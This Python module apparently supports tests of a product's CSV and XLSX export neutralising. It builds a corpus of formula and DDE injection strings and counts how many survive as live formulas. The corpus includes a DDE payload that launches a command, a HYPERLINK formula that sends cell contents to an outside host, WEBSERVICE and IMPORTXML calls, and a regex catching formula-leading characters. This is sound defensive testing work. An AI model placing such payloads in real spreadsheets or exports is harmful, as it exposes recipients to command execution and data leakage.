"""Cells that a spreadsheet would run, and how many of them it still would after they went through our files."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence
from itertools import product

from openpyxl import Workbook, load_workbook

from conversations.insight.exporting.neutralising import csv_lines, neutralise_lines
from conversations.insight.exporting.xlsx_writing import Sheet, write_workbook

# What is known to run, from OWASP's and Microsoft's pages on formula and DDE injection, in plain and wide letters.
BODIES = (
    "=1+1", "+1+1", "-2+3", "@SUM(A1:A9)", "|x", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"click")', '=WEBSERVICE("http://example.org")', "=DDE(\"cmd\";\"/C calc\")",
    "=IMPORTXML(A1)", "@A1", "=", "==1", "=-1", "+A1", "-A1", "-", "+", "@", "＝1+1", "＋1+1", "－2+3", "＠SUM(A1)",
    "｜x", "﹦1", "﹢1", "﹣A1", "−1+1",
)  # fmt: skip
BLANKS = (
    "", " ", "\t", "\r", "\n", "\r\n", "\ufeff", "\u00a0", "\u200b", "\u3000", "\u2028", "\x0b", "\x00", "\u2060",
    " \t",
)  # fmt: skip
CORPUS = tuple(blank + body for blank, body in product(BLANKS, BODIES))
# As strict as it gets, and not the product's own rule: no cell whose first visible character is one of these.
RUNS = re.compile(r"[\s\x00-\x20\u200b-\u200f\u2028\u2029\u2060\ufeff\ufffd]*[=+\-@|＝＋－＠｜﹦﹢﹣﹫−]")


def formulas_in_xlsx(cells: Sequence[str]) -> int:
    file = io.BytesIO()
    write_workbook(file, [Sheet("data", ["first", "second"], [[cell, cell] for cell in cells])])
    sheet = load_workbook(file)["data"]
    found = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert len(found) == 2 * len(cells)
    return sum(cell.data_type == "f" or bool(RUNS.match(str(cell.value))) for cell in found)


def formulas_in_csv(cells: Sequence[str]) -> int:
    """All ways in: rows of ours, and lines as the database writes them, all together and one by one."""
    lines = [as_the_database(cell) for cell in cells]
    ways = [csv_lines([cell, cell] for cell in cells), neutralise_lines(b"".join(lines))]
    ways += [b"".join(neutralise_lines(line) for line in lines)]
    book = Workbook(write_only=False)
    sheet = book.active
    for way in ways:
        rows = list(csv.reader(io.StringIO(way.decode(), newline="")))
        assert len(rows) == len(cells)
        for row in rows:
            # Typed into a cell, as a spreadsheet does with what it reads; openpyxl takes no control characters.
            sheet.append([re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", cell) for cell in row])
    cells_read = [cell for row in sheet.iter_rows() for cell in row]
    assert len(cells_read) == 2 * len(ways) * len(cells)
    return sum(cell.data_type == "f" or bool(RUNS.match(str(cell.value))) for cell in cells_read)


def as_the_database(cell: str) -> bytes:
    """A line of COPY: quoted where it must be, and nowhere else."""
    needed = any(mark in cell for mark in ',"\r\n')
    quoted = '"' + cell.replace('"', '""') + '"' if needed else cell
    return f"{quoted},{quoted}\n".encode()
